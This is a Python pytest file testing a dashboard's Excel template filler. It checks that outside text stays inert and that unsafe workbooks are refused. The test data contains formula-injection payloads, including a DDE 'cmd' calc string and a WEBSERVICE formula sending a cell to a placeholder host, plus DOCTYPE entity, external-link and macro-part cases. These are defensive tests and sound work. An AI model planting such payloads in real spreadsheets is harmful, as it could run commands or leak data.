"""A desk's own layout is filled where it names cells, kept everywhere else, refused where it does more."""

import io
import re
import zipfile
from collections.abc import Callable
from datetime import UTC, date, datetime, timedelta

import polars as pl
import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.drawing.image import Image
from openpyxl.styles import Font
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.table import Table as ListObject
from PIL import Image as Picture

from dashboard.reports.asked import Asked, Recipe, as_text
from dashboard.reports.model import UNIT, Column, Report, Sheet, Table, Words
from dashboard.reports.own.filling import Filled, filled
from dashboard.reports.own.names import known_names
from dashboard.reports.own.package import LARGEST, TemplateError, parts_of
from dashboard.reports.own.sample import sample
from dashboard.reports.own.template import template_of
from dashboard.wording import speaking
from metrics.model import Period

HOSTILE = ("=1+1", "+cmd|' /C calc'!A0", "@SUM(A1)", "</t></is><f>1</f>", "\x07bell", "_x0041_", "喜 & <b>")
LINK = b'<Relationships><Relationship TargetMode="External" Target="http://x.example/"/></Relationships>'
AT = datetime(2026, 3, 20, 4, 30, tzinfo=UTC)


def a_report(*, rows: int = 7) -> Report:
    """A summary of two figures, and a list of texts that somebody outside wrote."""
    asked = Asked("weekly", Period(date(2026, 3, 9), date(2026, 3, 16)), "en")
    recipe = Recipe(asked, {}, {}, False, 1, AT, 0, "", AT, "test")
    figures = pl.DataFrame({
        "metric": ["csat", "first_response_calendar_p50"], UNIT: ["score", "seconds"], "value": [4.25, 5400.0],
        "before": [4.0, 3600.0], "change": [0.25, 1800.0], "n": [40, 90], "verdict": ["moved", "=cmd"],
    })  # fmt: skip
    columns = (
        Column("metric", "Figure", "metric"), Column("value", "Result", "figure"), Column("before", "Before", "figure"),
        Column("change", "Change", "change"), Column("n", "n", "count"), Column("verdict", "Verdict"),
    )  # fmt: skip
    texts = pl.DataFrame(
        {"subject": [HOSTILE[place % 7] for place in range(rows)], "waited": [60 * n for n in range(rows)]}
    )
    listed = Table("tickets", "Tickets", (Column("subject", "Subject"), Column("waited", "Waited", "length")), texts)
    told = Sheet(
        "summary",
        "Summary",
        (Words(("1. =HYPERLINK(1)", "2. More."), "finding"), Table("summary", "Figures", columns, figures)),
    )
    about = Sheet(
        "data",
        "Data",
        (Table("recipe", "Recipe", (Column("recipe", "Recipe"),), pl.DataFrame({"recipe": [as_text(recipe)]})),),
    )
    return Report(
        "Weekly report", "all tickets", (told, Sheet("tickets", "Tickets", (listed,)), about), as_text(recipe)
    )


def name(book: Workbook, called: str, area: str, sheet: str = "Cover") -> None:
    book.defined_names[called] = DefinedName(called, attr_text=f"'{sheet}'!{area}")


def a_layout(change: Callable[[Workbook], object] = lambda _book: None) -> bytes:
    """A logo, a formula, a styled cell, and names."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "Cover"
    logo = io.BytesIO()
    Picture.new("RGB", (12, 8), "red").save(logo, "png")
    sheet.add_image(Image(logo), "A1")
    sheet["B2"], sheet["B3"] = "old title", "stays"
    sheet["B2"].font = Font("Arial", 20, bold=True, color="FF0000")
    sheet["C5"], sheet["C5"].number_format = 1, "0"
    sheet["C6"] = "=C5*2"
    name(book, "fw_title", "$B$2")
    name(book, "fw_finding_1", "$B$4")
    name(book, "fw_value_csat", "$C$5")
    name(book, "fw_value_first_response_calendar_p50", "$D$5")
    name(book, "fw_verdict_first_response_calendar_p50", "$E$5")
    name(book, "fw_target_fcr", "$F$5")
    name(book, "fw_tickets", "$A$10:$B$14")
    change(book)
    made = io.BytesIO()
    book.save(made)
    return made.getvalue()


def made_of(content: bytes, *, rows: int = 7) -> tuple[Workbook, Filled]:
    with speaking("en"):
        found = filled(template_of(content), a_report(rows=rows), "Asia/Shanghai")
    return load_workbook(io.BytesIO(found.content)), found


def test_what_is_named_is_filled_in_the_style_of_the_layout() -> None:
    book, found = made_of(a_layout())
    sheet = book["Cover"]
    assert sheet["B2"].value == "Weekly report"
    assert (sheet["B2"].font.name, sheet["B2"].font.sz, sheet["B2"].font.b) == ("Arial", 20, True)
    assert (sheet["C5"].value, sheet["C5"].number_format) == (4.25, "0")
    assert (sheet["D5"].value, sheet["D5"].number_format) == (timedelta(minutes=90), "[h]:mm:ss")
    assert sheet["F5"].value is None
    assert [sheet.cell(10, column).value for column in (1, 2)] == ["Subject", "Waited"]
    assert [sheet.cell(row, 1).value is not None for row in range(11, 16)] == [True] * 4 + [False]
    assert [note.partition(":")[0] for note in found.notes] == ["fw_target_fcr", "fw_tickets"]
    assert "3 rows" in found.notes[1]


def test_text_stays_text_and_no_formula_of_anybody_else_comes_in() -> None:
    book, _found = made_of(a_layout(lambda book: name(book, "fw_tickets", "$A$10")))
    sheet = book["Cover"]
    read = [sheet.cell(row, 1) for row in range(11, 18)]
    assert {cell.data_type for cell in read} == {"s"}
    assert [str(cell.value) for cell in read][:4] == list(HOSTILE[:4])
    assert sheet["B4"].data_type == sheet["E5"].data_type == "s"
    formulas = [cell.coordinate for one in book for row in one.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == ["C6"]


def test_everything_else_of_the_layout_stays_byte_for_byte() -> None:
    content = a_layout()
    before, after = parts_of(content), parts_of(made_of(content)[1].content)
    changed = {"xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/styles.xml", "[Content_Types].xml",
               "xl/_rels/workbook.xml.rels"}  # fmt: skip
    assert {part for part in before if before[part] != after.get(part)} == changed
    assert [part for part in before if part.startswith("xl/media/")]
    assert b'fullCalcOnLoad="1"' in after["xl/workbook.xml"]
    sheet = made_of(content)[0]["Cover"]
    assert (sheet["B3"].value, sheet["C6"].value) == ("stays", "=C5*2")


def test_a_formula_loses_the_result_that_it_had_and_is_never_written_over() -> None:
    content = a_layout(lambda book: name(book, "fw_value_csat", "$C$6"))
    parts = parts_of(content)
    part = "xl/worksheets/sheet1.xml"
    parts[part] = re.sub(rb"<f>C5\*2</f><v ?/>|<f>C5\*2</f><v></v>", b"<f>C5*2</f><v>99</v>", parts[part])
    assert b"<v>99</v>" in parts[part]
    book, found = made_of(repacked(parts))
    assert book["Cover"]["C6"].value == "=C5*2"
    assert b"<v>99</v>" not in parts_of(found.content)[part]


def repacked(parts: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as file:
        for part, content in parts.items():
            file.writestr(part, content)
    return made.getvalue()


def test_the_head_of_an_excel_list_is_not_written_over() -> None:
    def listed(book: Workbook) -> None:
        sheet = book["Cover"]
        sheet["A10"], sheet["B10"] = "Own head", "Other"
        sheet.add_table(ListObject(displayName="own", ref="A10:B14"))

    book, _found = made_of(a_layout(listed))
    assert [book["Cover"].cell(10, column).value for column in (1, 2)] == ["Own head", "Other"]
    assert book["Cover"]["A11"].value == HOSTILE[0]


def test_a_shorter_table_leaves_no_rows_of_an_earlier_report() -> None:
    once = made_of(a_layout(), rows=4)[1].content
    again, _found = made_of(once, rows=1)
    assert [again["Cover"].cell(row, 1).value is not None for row in range(11, 15)] == [True, False, False, False]


def with_part(part: str, content: bytes) -> bytes:
    return repacked({**parts_of(a_layout()), part: content})


def with_formula(formula: str) -> bytes:
    return a_layout(lambda book: book["Cover"].__setitem__("H1", formula))


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"not a workbook", "no .xlsx workbook"),
        (b"\xd0\xcf\x11\xe0" + bytes(600), "no .xlsx workbook"),
        (bytes(LARGEST + 1), "too large"),
        (with_part("xl/vbaProject.bin", b"x"), "macros"),
        (with_part("xl/embeddings/oleObject1.bin", b"x"), "macros"),
        (with_part("xl/externalLinks/externalLink1.xml", b"<a/>"), "reaches outside"),
        (with_part("xl/connections.xml", b"<a/>"), "reaches outside"),
        (with_part("xl/worksheets/_rels/sheet9.xml.rels", LINK), "reaches outside"),
        (with_part("xl/odd.xml", b'<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'), "DOCTYPE"),
        (with_part("xl/odd.xml", b"<a>"), "damaged"),
        (with_part("xl/odd.xml", '<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16")), "damaged"),
        (with_formula("=WEBSERVICE(\"http://x.example/\"&A1)"), "reaches outside"),
        (with_formula("=cmd|'/C calc'!A0"), "reaches outside"),
        (with_formula("='[1]Other'!A1"), "reaches outside"),
        (with_formula('=HYPERLINK("file://x/y")'), "reaches outside"),
        (with_part("xl/large.xml", b"<a>" + b" " * 61_000_000 + b"</a>"), "too large"),
        (a_layout(lambda book: [book.defined_names.pop(one) for one in list(book.defined_names)]), "names no cells"),
        (a_layout(lambda book: name(book, "fw_days", "$A$1,'Cover'!$B$9")), "no cells of one sheet"),
        (a_layout(lambda book: name(book, "fw_days", "$A$1", "Gone")), "no sheet"),
    ],
)  # fmt: skip
def test_what_runs_programs_or_reaches_outside_is_refused_by_name(content: bytes, said: str) -> None:
    with pytest.raises(TemplateError, match=said):
        template_of(content)


@pytest.mark.parametrize("formula", ['="a | b"', "=SUM(C5:C6)", '=IF(C5>1,"[1] note","")'])
def test_plain_formulas_are_let_in(formula: str) -> None:
    assert template_of(with_formula(formula)).places


@pytest.mark.parametrize("language", ["en", "zh_CN"])
def test_the_sample_names_only_what_is_understood_and_can_be_filled(language: str) -> None:
    with speaking("en" if language == "en" else "zh_CN"):
        made = io.BytesIO()
        sample().save(made)
        found = template_of(made.getvalue())
        assert found.unknown == ()
        assert {place.name for place in found.places} <= set(known_names())
        book = load_workbook(io.BytesIO(filled(found, a_report(), "Asia/Shanghai").content))
    assert book.worksheets[0]["A2"].value == "Weekly report"
    assert len(book.worksheets[1]._charts) == 1
